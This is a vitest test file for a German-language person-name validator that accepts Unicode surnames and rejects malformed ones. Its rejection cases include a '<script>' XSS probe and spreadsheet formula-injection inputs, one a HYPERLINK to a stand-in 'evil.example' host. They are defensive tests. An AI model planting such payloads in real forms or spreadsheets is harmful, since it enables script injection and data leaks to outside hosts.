import { describe, expect, it } from "vitest";
import { optionalPersonName, personName, personNameProblem } from "./person-name.ts";

const MISSING = "Bitte geben Sie Ihren Nachnamen ein.";
const INVALID =
  "Der Nachname muss mit einem Buchstaben beginnen und darf nur Buchstaben, Leerzeichen, Punkt, Apostroph und Bindestrich enthalten.";

describe("the one name rule (decision 0038)", () => {
  it.each([
    ["Mustermann", "Mustermann"],
    ["  Müller-Lüdenscheidt ", "Müller-Lüdenscheidt"],
    ["O'Neill", "O'Neill"],
    ["D’Angelo", "D’Angelo"],
    ["von  der   Heide", "von der Heide"],
    ["St. Clair", "St. Clair"],
    ["Zoë Ünal", "Zoë Ünal"],
    ["Øster", "Øster"],
    ["Łukasiewicz", "Łukasiewicz"],
    ["Ἀλέξανδρος", "Ἀλέξανδρος"],
    // Decomposed umlauts (a letter and its combining mark), as some keyboards send them.
    ["Mu\u0308ller", "Mu\u0308ller"],
    ["x".repeat(60), "x".repeat(60)],
  ])("accepts %j as %j", (input, value) => {
    expect(personName("last", MISSING).parse(input)).toBe(value);
  });

  it.each([
    ["<b>Erika</b>", INVALID],
    ["<script>alert(1)</script>", INVALID],
    ['=HYPERLINK("http://evil.example/?x","Klick")', INVALID],
    ["@SUM(1+1)", INVALID],
    ["-Mustermann", INVALID],
    ["'Mustermann", INVALID],
    ["Muster mann2", INVALID],
    ["Erika & Max", INVALID],
    ["Mustermann;", INVALID],
    ["x".repeat(61), "Höchstens 60 Zeichen."],
    ["", MISSING],
    ["   ", MISSING],
  ])("refuses %j: %s", (input, message) => {
    expect(personNameProblem("last", input, MISSING)).toBe(message);
  });

  it("says which field: Vorname or Nachname, and the form's own sentence for an empty one", () => {
    expect(personNameProblem("first", "<i>", "Bitte geben Sie den Vornamen ein.")).toMatch(
      /^Der Vorname muss mit einem Buchstaben beginnen/,
    );
    expect(personNameProblem("first", "", "Bitte geben Sie den Vornamen ein.")).toBe("Bitte geben Sie den Vornamen ein.");
    expect(personName("first", "Fehlt.").safeParse(undefined).error?.issues[0]?.message).toBe("Fehlt.");
  });

  it("an optional name may stay empty, otherwise the same rule holds", () => {
    expect(optionalPersonName("first").parse(undefined)).toBe("");
    expect(optionalPersonName("first").parse("  ")).toBe("");
    expect(optionalPersonName("first").parse(" Erika ")).toBe("Erika");
    expect(optionalPersonName("last").safeParse("<b>x</b>").error?.issues[0]?.message).toBe(INVALID);
  });
});
